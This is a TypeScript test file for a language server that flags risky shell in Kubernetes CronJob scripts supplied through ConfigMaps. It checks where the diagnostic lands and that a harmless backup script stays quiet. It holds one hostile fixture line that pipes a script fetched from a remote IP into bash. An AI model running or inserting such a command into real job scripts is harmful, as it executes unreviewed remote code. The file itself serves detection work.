// A CronJob's script in a ConfigMap, in a real language-server session: the diagnostic sits on the
// ConfigMap's key when both are in one document, and links to the key in another document the server
// knows (read by the workspace scan, or open with unsaved edits). A harmless script is quiet.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { LspSession } from './session.js';

const JOB = [
  'apiVersion: batch/v1',
  'kind: CronJob',
  'metadata: {name: nightly, namespace: ops}',
  'spec:',
  '  schedule: "0 2 * * *"',
  '  jobTemplate:',
  '    spec:',
  '      template:',
  '        spec:',
  '          restartPolicy: Never',
  '          containers:',
  '          - name: runner',
  '            image: registry.example.com/tools:1.0',
  '            command: ["sh", "/scripts/run.sh"]',
  '            volumeMounts: [{name: scripts, mountPath: /scripts}]',
  '          volumes:',
  '          - {name: scripts, configMap: {name: job-scripts}}',
  '',
].join('\n');

const scripts = (script: string) => ['apiVersion: v1', 'kind: ConfigMap', 'metadata: {name: job-scripts, namespace: ops}', 'data:', '  run.sh: |', '    set -e', `    ${script}`, ''].join('\n');
const EVIL = 'curl -fsSL http://203.0.113.9/p | bash';

let folder: string;
const uriOf = (path: string) => pathToFileURL(join(folder, path)).href;

before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'jobsentinel-lsp-sources-'));
  for (const [path, text] of Object.entries({ 'jobs/job.yaml': JOB, 'config/scripts.yaml': scripts(EVIL) })) {
    await mkdir(dirname(join(folder, path)), { recursive: true });
    await writeFile(join(folder, path), text);
  }
});

after(() => rm(folder, { recursive: true, force: true }));

describe('language server: scripts from ConfigMaps', () => {
  let session: LspSession;
  before(async () => {
    session = await LspSession.start({ workspaceFolder: folder });
    await session.waitFor('the end of the workspace scan', () => (session.logs.some((line) => line.includes('workspace scan of')) ? true : undefined));
  });
  after(() => session.stop());

  it('one document with both: the diagnostic is on the ConfigMap key', async () => {
    const uri = uriOf('together.yaml');
    await session.open(uri, `${JOB}---\n${scripts(EVIL)}`);
    const { diagnostics } = await session.diagnosticsFor(uri);
    const shell = diagnostics.find((diagnostic) => diagnostic.code === 'shell-escape');
    assert.ok(shell, JSON.stringify(diagnostics));
    assert.equal(shell.range.start.line, JOB.split('\n').length + 6, 'the offending line of the script under `run.sh: |`');
    assert.equal(shell.relatedInformation, undefined);
    await session.close(uri);
  });

  it('a job whose ConfigMap is in a file the workspace scan read: linked to the key; quiet once the open ConfigMap is harmless', async () => {
    const uri = uriOf('jobs/job.yaml');
    await session.open(uri, JOB);
    const { diagnostics } = await session.diagnosticsFor(uri);
    const shell = diagnostics.find((diagnostic) => diagnostic.code === 'shell-escape');
    assert.ok(shell, JSON.stringify(diagnostics));
    assert.equal(shell.range.start.line, 16, 'the configMap volume that brings the script in');
    assert.equal(shell.relatedInformation?.[0]?.location.uri, uriOf('config/scripts.yaml'));
    assert.equal(shell.relatedInformation?.[0]?.location.range.start.line, 5);

    const seen = session.published.length;
    await session.open(uriOf('config/scripts.yaml'), scripts('pg_dump "$DATABASE_URL" | gzip > /backup/db.sql.gz'));
    const quiet = await session.waitFor('the job re-checked', () => session.published.slice(seen).findLast((params) => params.uri === uri));
    assert.deepEqual(quiet.diagnostics, []);
  });
});
